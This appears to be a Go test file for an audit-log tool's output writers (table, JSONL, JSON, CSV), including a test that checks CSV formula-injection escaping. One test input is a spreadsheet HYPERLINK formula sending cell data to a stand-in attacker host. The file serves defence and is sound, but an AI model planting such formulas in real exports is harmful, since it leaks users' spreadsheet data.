package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/audittrail/audittrail"
)

func outputEvents() []*audittrail.Event {
	return []*audittrail.Event{
		{
			ID:                "b096430b-c7a8-47f2-a129-d9ae58cf454f",
			EventTime:         time.Date(2026, 1, 2, 3, 4, 5, 123456000, time.UTC),
			ReceiveTime:       time.Date(2026, 1, 2, 3, 4, 6, 0, time.UTC),
			EventSource:       "h2oai-enginemanager-server",
			Action:            "actions/enginemanager/daiEngines/CREATE",
			Status:            &audittrail.Status{Code: 3, Message: "bad"},
			Principal:         "users/1",
			SourceIP:          "1.2.3.4",
			Resource:          "//engine-manager/workspaces/w1/daiEngines/e1",
			Workspace:         "workspaces/w1",
			RequestParameters: map[string]string{"a": "b"},
			Metadata:          map[string]string{"region": "eu"},
			Type:              audittrail.TypeAPI,
		},
		{
			ID:          "5b5a1c6e-2f38-4c39-9a4f-7f2f8b6a1d2e",
			EventTime:   time.Date(2026, 1, 2, 3, 4, 0, 0, time.UTC),
			ReceiveTime: time.Date(2026, 1, 2, 3, 4, 6, 0, time.UTC),
			EventSource: "keycloak",
			Action:      "LOGIN",
			ReadOnly:    true,
			Principal:   "services/very-long-service-principal-name",
			SourceIP:    "private",
		},
	}
}

func writeAll(t *testing.T, format string, last *audittrail.SearchEventsResponse) string {
	t.Helper()
	var b strings.Builder
	w, err := newEventWriter(&b, format)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range outputEvents() {
		if err := w.write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.close(last); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestTableOutput(t *testing.T) {
	got := writeAll(t, formatTable, nil)
	want := `TIME                      PRINCIPAL                                  ACTION                                   RESOURCE                                      STATUS
2026-01-02T03:04:05.123Z  users/1                                    actions/enginemanager/daiEngines/CREATE  //engine-manager/workspaces/w1/daiEngines/e1  3
2026-01-02T03:04:00.000Z  services/very-long-service-principal-name  LOGIN                                    -                                             -
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("table (-want +got):\n%s", diff)
	}
}

// apiEvent1 is the first output event as the REST API shows it: every key,
// lowerCamelCase, timestamps in UTC, the type by name.
const apiEvent1 = `{"name":"events/b096430b-c7a8-47f2-a129-d9ae58cf454f","eventTime":"2026-01-02T03:04:05.123456Z","receiveTime":"2026-01-02T03:04:06Z","eventSource":"h2oai-enginemanager-server","action":"actions/enginemanager/daiEngines/CREATE","readOnly":false,"status":{"code":3,"message":"bad"},"principal":"users/1","loginPrincipal":"","sourceIpAddress":"1.2.3.4","userAgent":"","resource":"//engine-manager/workspaces/w1/daiEngines/e1","workspace":"workspaces/w1","requestParameters":{"a":"b"},"metadata":{"region":"eu"},"type":"TYPE_API"}`

const apiEvent2 = `{"name":"events/5b5a1c6e-2f38-4c39-9a4f-7f2f8b6a1d2e","eventTime":"2026-01-02T03:04:00Z","receiveTime":"2026-01-02T03:04:06Z","eventSource":"keycloak","action":"LOGIN","readOnly":true,"principal":"services/very-long-service-principal-name","loginPrincipal":"","sourceIpAddress":"private","userAgent":"","resource":"","workspace":"","requestParameters":{},"metadata":{},"type":"TYPE_UNSPECIFIED"}`

func TestJSONLOutput(t *testing.T) {
	got := writeAll(t, formatJSONL, nil)
	want := apiEvent1 + "\n" + apiEvent2 + "\n"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("jsonl (-want +got):\n%s", diff)
	}
}

func TestJSONOutput(t *testing.T) {
	got := writeAll(t, formatJSON, &audittrail.SearchEventsResponse{NextPageToken: "tok", SearchedUntil: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)})
	var gotV, wantV any
	if err := json.Unmarshal([]byte(got), &gotV); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, got)
	}
	want := `{"events":[` + apiEvent1 + `,` + apiEvent2 + `],"nextPageToken":"tok","searchedUntilTime":"2026-01-01T00:00:00Z"}`
	if err := json.Unmarshal([]byte(want), &wantV); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(wantV, gotV); diff != "" {
		t.Errorf("json (-want +got):\n%s", diff)
	}
	if !strings.HasPrefix(got, "{\n  \"events\": [\n    {\n") {
		t.Errorf("json is not indented:\n%s", got)
	}
}

func TestCSVOutput(t *testing.T) {
	got := writeAll(t, formatCSV, nil)
	want := `name,event_time,receive_time,event_source,action,read_only,status_code,status_message,principal,login_principal,source_ip_address,user_agent,resource,workspace,request_parameters,metadata,type
events/b096430b-c7a8-47f2-a129-d9ae58cf454f,2026-01-02T03:04:05.123456Z,2026-01-02T03:04:06Z,h2oai-enginemanager-server,actions/enginemanager/daiEngines/CREATE,false,3,bad,users/1,,1.2.3.4,,//engine-manager/workspaces/w1/daiEngines/e1,workspaces/w1,"{""a"":""b""}","{""region"":""eu""}",TYPE_API
events/5b5a1c6e-2f38-4c39-9a4f-7f2f8b6a1d2e,2026-01-02T03:04:00Z,2026-01-02T03:04:06Z,keycloak,LOGIN,true,,,services/very-long-service-principal-name,,private,,,,{},{},TYPE_UNSPECIFIED
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("csv (-want +got):\n%s", diff)
	}
}

// TestCSVFormulaGuard: a value a spreadsheet would run as a formula is
// written as text, every other value as it is, and every cell reads back
// to its value by removing one leading '.
func TestCSVFormulaGuard(t *testing.T) {
	tests := []struct{ value, cell string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"'=already quoted", "''=already quoted"},
		{"'", "''"},
		{"a=b", "a=b"},
		{"users/1", "users/1"},
		{"line\nbreak, \"quoted\"", "line\nbreak, \"quoted\""},
		{"", ""},
	}
	for _, tt := range tests {
		e := &audittrail.Event{ID: "b096430b-c7a8-47f2-a129-d9ae58cf454f", EventTime: time.Unix(1, 0), ReceiveTime: time.Unix(2, 0),
			EventSource: tt.value, Action: tt.value, Status: &audittrail.Status{Code: 5, Message: tt.value}, Principal: tt.value,
			LoginPrincipal: tt.value, SourceIP: tt.value, UserAgent: tt.value, Resource: tt.value, Workspace: tt.value,
			RequestParameters: map[string]string{"k": tt.value}, Metadata: map[string]string{tt.value: "v"}}
		var b strings.Builder
		w, err := newEventWriter(&b, formatCSV)
		if err != nil {
			t.Fatal(err)
		}
		if err := w.write(e); err != nil {
			t.Fatal(err)
		}
		if err := w.close(nil); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%q: %d rows, %v:\n%s", tt.value, len(rows), err, b.String())
		}
		row := rows[1]
		for _, col := range []int{3, 4, 7, 8, 9, 10, 11, 12, 13} { // the producer's text columns
			if row[col] != tt.cell {
				t.Errorf("%q: column %s is %q, want %q", tt.value, csvHeader[col], row[col], tt.cell)
			}
			if back, guarded := strings.CutPrefix(row[col], "'"); guarded && back != tt.value || !guarded && row[col] != tt.value {
				t.Errorf("%q: column %s %q does not read back", tt.value, csvHeader[col], row[col])
			}
		}
		var params, metadata map[string]string
		if json.Unmarshal([]byte(row[14]), &params) != nil || params["k"] != tt.value ||
			json.Unmarshal([]byte(row[15]), &metadata) != nil || metadata[tt.value] != "v" {
			t.Errorf("%q: maps %s %s do not hold the value as it is", tt.value, row[14], row[15])
		}
	}
}
